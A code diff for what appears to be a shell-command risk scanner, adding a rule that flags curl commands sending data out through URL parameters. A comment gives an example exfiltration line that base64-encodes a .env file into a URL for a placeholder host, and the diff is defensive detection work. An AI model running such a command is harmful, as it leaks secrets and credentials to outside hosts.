@@ -421,6 +421,16 @@ def _sed(base: str, args: list[str], command: Command, scope: _Scope) -> None:
 
 
 def _downloads(base: str, args: list[str], command: Command, scope: _Scope) -> None:
+    # `curl "http://host/?d=$(base64 .env)"`: data sent in the URL itself, as a parameter
+    # (a variable or a command's output) or in the path (a command's output; `v$VERSION` is
+    # the everyday case, left alone).
+    substituted = "$(" in command.text or "`" in command.text
+    for url in args:
+        address = url.partition("://")[2]
+        path = address.partition("/")[2]
+        if DYNAMIC in address.partition("?")[2] or (substituted and DYNAMIC in path):
+            scope.add("HIGH", f"uploads data to the network in a URL ({base} {shown(url)})")
+            break
     for target in known.download_targets(base, args):
         _writes(target, "downloads into", scope, scratch_ok=True)
     for source in known.upload_sources(base, args):
